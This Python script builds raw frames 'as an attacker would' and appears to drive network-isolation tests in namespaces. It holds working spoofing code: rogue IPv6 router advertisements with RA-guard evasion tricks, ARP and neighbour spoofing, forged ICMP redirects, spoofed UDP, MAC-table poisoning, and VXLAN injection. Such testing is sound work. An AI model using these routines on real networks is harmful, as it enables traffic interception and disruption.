"""Packets as an attacker would make them: python3 frames.py VERB ARGUMENTS, in the attacker's network namespace."""
import socket
import struct
import sys
import time
from ipaddress import ip_address

ETH_ALL, MULTICAST_ALL, MULTICAST_NODES = 3, "33:33:00:00:00:01", "ff02::1"


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def own_mac(device):
    # By a socket: /sys shows another namespace's devices.
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((device, 0))
        return s.getsockname()[4].hex(":")


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ether(to, sender, kind, payload, vlan=None):
    tag = b"" if vlan is None else struct.pack("!HH", 0x8100, vlan)
    return mac(to) + mac(sender) + tag + struct.pack("!H", kind) + payload


def arp(operation, sender_mac, sender, target_mac, target):
    head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    return head + mac(sender_mac) + ip_address(sender).packed + mac(target_mac) + ip_address(target).packed


def ipv4(source, to, protocol, payload):
    def head(total):
        start = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, total)
        return start + ip_address(source).packed + ip_address(to).packed
    return head(checksum(head(0))) + payload


def ipv6(source, to, next_header, payload, extension=b""):
    length = len(extension) + len(payload)
    first = 60 if extension else next_header
    return struct.pack("!IHBB", 6 << 28, length, first, 255) + ip_address(source).packed + ip_address(to).packed + extension + payload


def icmpv6(source, to, body):
    pseudo = ip_address(source).packed + ip_address(to).packed + struct.pack("!II", len(body), 58)
    return body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]


def udp(port, to_port, payload):
    return struct.pack("!HHHH", port, to_port, 8 + len(payload), 0) + payload


def send(device, *frames):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((device, 0))
        for frame in frames:
            s.send(frame)


def link_local(address):
    a = list(mac(address))
    return str(ip_address(b"\xfe\x80" + b"\0" * 6 + bytes([a[0] ^ 2, a[1], a[2], 0xFF, 0xFE, a[3], a[4], a[5]])))


def advertise(device, source=None, hidden=""):
    """A router advertisement: this machine is the way out. `hidden`: behind an extension header, or in a frame with a VLAN tag of 0."""
    sender = own_mac(device)
    source = source or link_local(sender)
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + struct.pack("!BB", 1, 1) + mac(sender)
    extension = bytes([58, 0, 1, 4, 0, 0, 0, 0]) if hidden == "extension" else b""
    packet = ipv6(source, "ff02::1", 58, icmpv6(source, "ff02::1", body), extension)
    send(device, ether(MULTICAST_ALL, sender, 0x86DD, packet, 0 if hidden == "vlan" else None))


def claim(device, address, to_mac, to, vlan=""):
    """ARP: the address is here."""
    sender = own_mac(device)
    send(device, ether(to_mac, sender, 0x0806, arp(2, sender, address, to_mac, to), int(vlan) if vlan else None))


def claim6(device, address, to_mac, to, source=None):
    """A neighbour advertisement that overrides: the address is here."""
    sender = own_mac(device)
    source = source or link_local(sender)
    body = struct.pack("!BBHI", 136, 0, 0, 0x60000000) + ip_address(address).packed + struct.pack("!BB", 2, 1) + mac(sender)
    send(device, ether(to_mac, sender, 0x86DD, ipv6(source, to, 58, icmpv6(source, to, body))))


def redirect(device, gateway, victim_mac, victim, destination, better):
    """In the gateway's name: the destination is better reached by another one."""
    quoted = ipv4(victim, destination, 1, struct.pack("!BBHHH", 0, 0, 0, 1, 1))
    body = ip_address(better).packed + quoted
    total = checksum(struct.pack("!BBH", 5, 1, 0) + body)
    packet = ipv4(gateway, victim, 1, struct.pack("!BBH", 5, 1, total) + body)
    send(device, ether(victim_mac, own_mac(device), 0x0800, packet))


def redirect6(device, gateway, victim_mac, victim, destination, better):
    body = struct.pack("!BBHI", 137, 0, 0, 0) + ip_address(better).packed + ip_address(destination).packed
    body += struct.pack("!BB", 2, 1) + mac(own_mac(device))
    packet = ipv6(gateway, victim, 58, icmpv6(gateway, victim, body))
    send(device, ether(victim_mac, own_mac(device), 0x86DD, packet))


def datagram(device, source, to_mac, to, port, sender=None):
    """With whatever source address, and whatever source MAC."""
    packet = ipv4(source, to, 17, udp(4000, int(port), b"forged"))
    send(device, ether(to_mac, sender or own_mac(device), 0x0800, packet))


def announce(device, address):
    """One frame with a MAC, a neighbour's maybe, so that the bridge sends its frames here."""
    send(device, ether("ff:ff:ff:ff:ff:ff", address, 0x0806, arp(1, address, "0.0.0.0", "00:00:00:00:00:00", "192.0.2.77")))


def ask(device, gateway_mac, gateway, victim, name):
    """Claims the victim's address and asks DNS in his name; prints what was answered."""
    sender = own_mac(device)
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    query = struct.pack("!HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", 1, 1)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_ALL)) as s:
        s.bind((device, ETH_ALL))
        s.send(ether(gateway_mac, sender, 0x0806, arp(2, sender, victim, gateway_mac, gateway)))
        s.send(ether(gateway_mac, sender, 0x0800, ipv4(victim, gateway, 17, udp(5353, 53, query))))
        end = time.monotonic() + 1
        while time.monotonic() < end:
            s.settimeout(max(0.01, end - time.monotonic()))
            try:
                frame = s.recv(2048)
            except TimeoutError:
                return
            if frame[12:14] == b"\x08\0" and frame[42:44] == b"\x51\x51" and frame[34:36] == b"\0\x35":
                print(frame[-4:].hex())
                return


def tunnel(source, to, vni, inner, *words):
    """A frame for an overlay, from a host that is no node: `arp` or `udp` inside."""
    if inner == "arp":
        sender, address, victim_mac, victim = words
        frame = ether(victim_mac, sender, 0x0806, arp(2, sender, address, victim_mac, victim))
    else:
        sender, address, victim_mac, victim, port = words
        frame = ether(victim_mac, sender, 0x0800, ipv4(address, victim, 17, udp(4000, int(port), b"forged")))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((source, 0))
        s.sendto(struct.pack("!BBHI", 8, 0, 0, int(vni) << 8) + frame, (to, 4789))


def listen(address, port, seconds):
    """Says that it listens, and then what came: nothing, if that is `finish`."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((address, int(port)))
        s.settimeout(float(seconds))
        print("listening", flush=True)
        try:
            data, sender = s.recvfrom(2048)
            print("nothing" if data == b"finish" else f"{data.decode()} {sender[0]}", flush=True)
        except TimeoutError:
            print("nothing", flush=True)


def finish(address, port):
    """To a listener of the same namespace: what was sent to it before this has come, or does not come."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"finish", (address, int(port)))


def probe(device, address):
    """Is the address free? (RFC 5227)"""
    sender = own_mac(device)
    send(device, ether("ff:ff:ff:ff:ff:ff", sender, 0x0806, arp(1, sender, "0.0.0.0", "00:00:00:00:00:00", address)))


def discover(device):
    """A DHCP client's first word."""
    packet = ipv4("0.0.0.0", "255.255.255.255", 17, udp(68, 67, b"\1" * 240))
    send(device, ether("ff:ff:ff:ff:ff:ff", own_mac(device), 0x0800, packet))


def join_group(device):
    """A multicast listener report of a machine without an address (RFC 3590)."""
    body = struct.pack("!BBHHH", 143, 0, 0, 0, 0)
    packet = ipv6("::", "ff02::16", 58, icmpv6("::", "ff02::16", body))
    send(device, ether("33:33:00:00:00:16", own_mac(device), 0x86DD, packet))


def duplicates(device, address):
    """Does another one have the address? (RFC 4862) Of a neighbour's it keeps him from having it."""
    body = struct.pack("!BBHI", 135, 0, 0, 0) + ip_address(address).packed
    packet = ipv6("::", MULTICAST_NODES, 58, icmpv6("::", MULTICAST_NODES, body))
    send(device, ether(MULTICAST_ALL, own_mac(device), 0x86DD, packet))


EXPERIMENTAL = 0x88B5


def finish_hearing(device):
    """To who hears what passes the device (a frame of the local experimental type, IEEE 802)."""
    send(device, ether("ff:ff:ff:ff:ff:ff", own_mac(device), EXPERIMENTAL, b""))


def hear(device, seconds):
    """Says which of the four above came in, until `finish_hearing`."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_ALL)) as s:
        s.bind((device, ETH_ALL))
        print("listening", flush=True)
        end = time.monotonic() + float(seconds)
        while time.monotonic() < end:
            s.settimeout(max(0.01, end - time.monotonic()))
            try:
                frame = s.recv(2048)
            except TimeoutError:
                return
            if frame[12:14] == EXPERIMENTAL.to_bytes(2, "big"):
                return
            if frame[12:14] == b"\x08\x06" and frame[28:32] == b"\0\0\0\0":
                print("probe", flush=True)
            if frame[12:14] == b"\x08\x00" and frame[34:38] == b"\0\x44\0\x43":
                print("discover", flush=True)
            if frame[12:14] == b"\x86\xdd" and frame[22:38] == b"\0" * 16:
                print({143: "join_group", 135: "duplicates"}.get(frame[54], frame[54]), flush=True)


globals()[sys.argv[1]](*sys.argv[2:])
